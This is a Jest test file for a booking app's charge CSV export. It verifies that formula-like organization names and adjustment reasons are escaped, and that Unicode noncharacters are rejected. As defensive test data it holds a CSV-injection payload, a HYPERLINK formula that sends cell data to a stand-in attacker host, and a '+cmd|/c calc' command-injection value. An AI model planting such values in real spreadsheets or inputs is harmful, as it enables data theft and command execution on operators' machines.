import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { hoursFromNow, publishSlots, requestBooking, setRules } from '../support/booking-fixtures.js';
import { createCatalog } from '../support/catalog-fixtures.js';
import { controlClock, type TestClock } from '../support/clock.js';
import { registerUser, TEST_PASSWORD } from '../support/factories.js';
import { startTestApp, type TestApp } from '../support/test-app.js';

const DAY = 86_400_000;

/**
 * What other people typed reaches an operator's spreadsheet through the charge export: a requester's organization
 * name and the reason of an adjustment. Opened in Excel or WPS, a CSV cell starting with "=" runs as a formula
 * (a link that sends the sheet's data away), so such text arrives as text.
 */
describe('charge exports keep hostile text as text', () => {
  let t: TestApp;
  let clock: TestClock;
  beforeAll(async () => {
    t = await startTestApp();
    clock = controlClock(t);
  });
  afterAll(() => t.close());

  it('writes a requester named like a formula and a formula-like reason with a leading apostrophe in CSV', async () => {
    const operator = await registerUser(t, { kind: 'LARGE_ENTERPRISE' });
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"付款")';
    const requester = await registerUser(t, { kind: 'STARTUP', name: formula });
    const { offeringId, equipmentIds } = await createCatalog(t, operator);
    await setRules(t, operator, equipmentIds[0], { confirmationMode: 'AUTOMATIC', minNoticeHours: 1 });
    const [slotId] = await publishSlots(t, operator, equipmentIds[0], [
      { startsAt: hoursFromNow(48), endsAt: hoursFromNow(52) },
    ]);
    const booked = await requestBooking(t, requester, offeringId, [slotId]);
    expect(booked.data?.requestBooking.status).toBe('CONFIRMED');
    clock.travelTo(hoursFromNow(53));
    const completed = await t.gql(
      `mutation($id: ID!, $a: [ChargeAdjustmentInput!]!) { completeBooking(id: $id, outcome: "完成", adjustments: $a) { status } }`,
      { id: booked.data?.requestBooking.id, a: [{ amount: '-10.00', reason: '+cmd|/c calc' }] },
      { token: operator.token },
    );
    expect(completed.errors).toBeUndefined();

    const csv = await t
      .http()
      .get('/charges/export.csv')
      .query({
        from: new Date(clock.now().getTime() - DAY).toISOString(),
        to: new Date(clock.now().getTime() + DAY).toISOString(),
      })
      .set('authorization', `Bearer ${operator.token}`);
    clock.travelTo(new Date());
    expect(csv.status).toBe(200);
    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""付款"")"`);
    expect(csv.text).toContain(`'+cmd|/c calc`);
    // No cell of any line starts a formula.
    const cells = csv.text.split('\r\n').flatMap((line) => line.split(','));
    expect(cells.filter((cell) => /^"?[=+@]/.test(cell))).toEqual([]);
  });

  it('refuses text with a Unicode noncharacter, which an XLSX export could not carry, naming the field', async () => {
    // U+FFFF and U+FFFE are not XML characters: one in a requester's name or a reason made the operator's XLSX
    // export (and authorities' reports) a file that spreadsheet programs and XML parsers refuse to open.
    const refused = await t.gql(`mutation($input: RegisterInput!) { register(input: $input) { token } }`, {
      input: {
        email: `nonchar-${Date.now()}@example.com`,
        password: TEST_PASSWORD,
        displayName: 'Test User',
        organization: { name: '苏州\uFFFF材料', kind: 'STARTUP', province: '32', city: '苏州' },
      },
    });
    expect(refused.errors?.[0]?.extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      fields: [{ field: 'organization.name', message: expect.stringContaining('noncharacter') }],
    });

    const operator = await registerUser(t, { kind: 'LARGE_ENTERPRISE' });
    const reason = await t.gql(
      `mutation($id: ID!, $a: [ChargeAdjustmentInput!]!) { completeBooking(id: $id, outcome: "完成", adjustments: $a) { status } }`,
      { id: '00000000-0000-4000-8000-000000000000', a: [{ amount: '1.00', reason: '运费\uFFFE' }] },
      { token: operator.token },
    );
    expect(reason.errors?.[0]?.extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      fields: [{ field: 'adjustments.0.reason', message: expect.stringContaining('noncharacter') }],
    });
  });
});
